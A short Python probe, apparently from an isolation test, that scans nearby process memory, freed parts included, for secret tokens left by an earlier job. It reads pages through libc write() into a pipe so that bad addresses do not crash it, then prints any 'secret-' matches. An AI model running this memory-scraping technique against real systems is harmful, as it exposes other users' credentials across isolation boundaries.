# tries: to find texts of the job before in its own memory, freed parts included, by a call that survives bad addresses
# success: a secret of that job is in the output
# seen by: the output
import ctypes, os, re

libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
os.set_blocking(w, False)
mark = re.compile(b"sec" + b"ret-[0-9a-f]{16}")
starts = {id(x) & ~0xFFFFF for x in (0, (), [], {}, "", os, re, open, mark, object())}
starts |= {ctypes.addressof(ctypes.create_string_buffer(n)) & ~0xFFFFF for n in (8, 700, 4096, 1 << 17)}
pages = sorted({page for start in starts for page in range(start - (12 << 20), start + (4 << 20), 4096)})
found = set()
for page in pages:
    if page > 0 and libc.write(w, ctypes.c_void_p(page), 4096) == 4096:
        found.update(mark.findall(os.read(r, 4096)))
print(sorted(found))
